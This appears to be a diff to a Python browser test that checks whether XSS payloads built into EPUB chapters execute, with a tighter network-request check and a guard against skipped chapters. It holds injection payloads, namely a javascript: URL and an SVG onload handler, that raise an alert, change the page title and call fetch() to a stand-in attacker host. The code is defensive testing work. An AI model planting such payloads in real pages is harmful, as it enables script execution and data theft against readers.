@@ -16,6 +16,7 @@ from tests.browser_harness import Chromium, chromium_binary, file_url, page_for
 
 P = f"document.title='pwned';alert(1);fetch('https://{EVIL}/x')"
 P_URL = f"javascript:{P}"
+NETWORK = ("http:", "https:", "ws:", "wss:", "ftp:", "window.open")  # file:, data:image, x: stay local
 
 SVG_FILE = f"""<?xml version="1.0"?>
 <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="60" height="60" onload="{P}">
@@ -98,7 +99,7 @@ def payload_site(tmp_path_factory):
 def _verdict(visit) -> list[str]:
     bad = [f"dialog {d}" for d in visit.dialogs]
     bad += [f"request {r}" for r in visit.requests
-            if EVIL in r or not r.startswith(("file://", "https://test.example/"))]
+            if EVIL in r or (r.startswith(NETWORK) and not r.startswith("https://test.example/"))]
     if visit.title_after and visit.title_after != visit.title_before:
         bad.append(f"title changed to {visit.title_after!r}")
     return bad
@@ -112,18 +113,21 @@ def test_most_payload_articles_are_built(payload_site):
 def test_no_payload_runs_in_epub_chapters(chromium, payload_site, tmp_path: Path):
     built, _ = payload_site
     problems = {}
+    visited = 0
     for book in built.epubs():
         folder = tmp_path / book.stem
         with zipfile.ZipFile(book) as z:
             z.extractall(folder)
         for page in sorted(folder.rglob("*.xhtml")):
             text = page.read_bytes()
-            if b"Payload" not in text or b"<nav" in text:
+            if b"Payload" not in text or page.name in {"nav.xhtml", "contents.xhtml"}:
                 continue
+            visited += 1
             title = etree.fromstring(text).findtext("{http://www.w3.org/1999/xhtml}head/{http://www.w3.org/1999/xhtml}title") or ""
             visit = chromium.visit(file_url(page), title)
             if bad := _verdict(visit):
                 problems[page.relative_to(tmp_path).as_posix()] = bad
+    assert visited >= len(PAYLOADS) // 2, "the payload chapters were not found"
     assert problems == {}
 
 
